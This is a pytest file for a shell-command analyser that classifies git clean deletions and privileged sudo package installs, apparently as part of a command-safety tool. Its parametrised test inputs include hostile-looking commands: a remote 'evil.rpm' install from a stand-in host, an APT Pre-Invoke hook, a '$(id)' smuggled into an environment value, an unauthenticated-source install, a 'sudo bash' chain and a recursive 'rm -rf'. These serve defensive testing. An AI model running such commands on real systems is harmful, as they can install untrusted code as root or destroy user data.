"""False positives blind-benign-9's first run found, and what their mechanisms share (policies/README.md, "A ninth
blind batch, benign only")."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from hookd.enrich.shell.analysis import analyse_shell

HOME = "/home/u"


def _deletes(command: str, proj: Path) -> list[dict[str, Any]]:
    shell, found = analyse_shell(command, home=HOME, base_dir=str(proj), project_dir=str(proj))
    assert shell["parse_error"] is False, shell["error"]
    return [{k: e[k] for k in ("path", "recursive", "what") if k in e} for e in found if e["op"] == "delete"]


@pytest.fixture
def tests_dir(proj: Path) -> Path:
    (proj / "tests" / "regression").mkdir(parents=True)
    (proj / "tests" / "regression" / "test_issue_812.py").write_text("def test_812():\n    assert False\n")
    return proj / "tests"


@pytest.mark.parametrize(
    "command",
    [
        "git clean -fd -- tests/regression/test_issue_812.py",
        "git clean -f tests/regression/test_issue_812.py",
        "git clean -fdx -- ./tests/regression/test_issue_812.py",
        "cd tests && git clean -fd regression/test_issue_812.py",
    ],
)
def test_a_clean_of_one_named_file_deletes_that_file_as_rm_would(command: str, proj: Path, tests_dir: Path) -> None:
    """git-clean(1): with a pathspec, `-d` is irrelevant; a pathspec naming a regular file removes that file or
    nothing, which is what `rm FILE` takes (a plain delete, no work lost beyond it)."""
    target = str(tests_dir / "regression" / "test_issue_812.py")
    assert _deletes(command, proj) == [{"path": target, "recursive": False}]


@pytest.mark.parametrize(
    ("command", "what"),
    [
        # (a directory the pathspec names is `rm -r DIR` of its untracked files since fixes43:
        # test_effects_clean_pathspec.py)
        ("git clean -f -- 'tests/regression/*.py'", "untracked"),  # a pattern matches files not named
        ("git clean -f -- tests/regression/test_issue_9??.py", "untracked"),
        ("git clean -f -- ':!tests/regression/test_issue_812.py'", "untracked"),  # magic: all but this file
        ("git clean -fx -- tests/regression/missing.py", "ignored"),  # not there: not known to be one file
        ('git clean -fd -- "$T"', "untracked-trees"),  # built at run time
    ],
)
def test_a_clean_of_a_directory_pattern_or_unknown_name_still_loses_work(
    command: str, what: str, proj: Path, tests_dir: Path
) -> None:
    lost = [e for e in _deletes(command, proj) if "what" in e]
    assert [e["what"] for e in lost] == [what]


def test_a_clean_through_a_link_to_a_directory_is_a_tree(proj: Path, tests_dir: Path) -> None:
    (proj / "fixtures").symlink_to(tests_dir)
    assert [e["what"] for e in _deletes("git clean -fd -- fixtures", proj) if "what" in e] == ["untracked-trees"]


def _installs(command: str, proj: Path) -> list[str]:
    shell, found = analyse_shell(command, home=HOME, base_dir=str(proj), project_dir=str(proj))
    assert shell["parse_error"] is False, shell["error"]
    return [str(e.get("installs", "")) for e in found if e["op"] == "privilege"]


@pytest.mark.parametrize(
    "command",
    [
        "sudo apt-get install -y gcc tclsh make",
        "sudo apt-get update",
        "sudo DEBIAN_FRONTEND=noninteractive apt-get -y install tzdata",
        "sudo apt install --no-install-recommends -y python3-venv libpq-dev=15.6-0+deb12u1 gcc:amd64",
        "sudo -n dnf install -y gcc make",
    ],
)
def test_the_distributions_packages_installed_with_sudo_are_marked(command: str, proj: Path) -> None:
    """package_installs.json: named packages from the configured sources, options that only answer prompts."""
    assert set(_installs(command, proj)) == {"packages"}


@pytest.mark.parametrize(
    "command",
    [
        "sudo apt-get install ./evil.deb",  # a package file
        "sudo apt-get install evil.deb",
        "sudo dnf install -y https://x.example/evil.rpm",  # a URL
        "sudo apt-get install -o APT::Update::Pre-Invoke::=/tmp/x gcc",  # a configuration option
        "sudo apt-get -c /tmp/apt.conf install gcc",
        "sudo apt-get install --allow-unauthenticated gcc",  # an unsigned source
        "sudo APT_CONFIG=/tmp/apt.conf apt-get install gcc",  # an environment the manager reads
        "sudo DEBIAN_FRONTEND='$(id)' apt-get install gcc",
        "sudo -E apt-get install gcc",  # the caller's environment kept
        "sudo -u builder apt-get install gcc",
        "sudo apt-get remove gcc",  # not an install
        "sudo apt-get install gcc && sudo bash",
        "sudo pip install requests",  # not the distribution's packages
        "apt-get install gcc",  # no privilege to mark
    ],
)
def test_anything_else_run_with_privileges_is_not_marked(command: str, proj: Path) -> None:
    assert "packages" not in _installs(command, proj)[-1:]


def _argv(command: str, proj: Path) -> list[list[str]]:
    shell, _ = analyse_shell(command, home=HOME, base_dir=str(proj), project_dir=str(proj))
    return [list(c["argv"]) for c in shell["commands"]]


def test_a_range_longer_than_the_expansion_cap_is_what_seq_would_print(proj: Path) -> None:
    """`{1..3000}` is `$(seq 1 3000)` spelled with braces: words not judged one by one (the input cap counts the
    words it would make), so one word built at run time, as the substitution's output is."""
    assert _argv("printf 'line-%s\\n' {1..3000} | wc -l", proj)[0] == ["printf", "line-%s\\n", "$(seq 1 1 3000)"]
    assert _argv("echo x{300..0}y", proj)[0] == ["echo", "x$(seq 300 -1 0)y"]
    assert len(_argv("echo {1..256}", proj)[0]) == 257  # up to the cap, each number is a word
    assert len(_argv("echo {a..z}{1..9}", proj)[0]) == 1 + 26 * 9


def test_a_delete_through_a_long_range_is_not_known(proj: Path) -> None:
    _, found = analyse_shell("rm -rf ~/x{1..3000}", home=HOME, base_dir=str(proj), project_dir=str(proj))
    assert [e["known"] for e in found if e["op"] == "delete"] == [False]
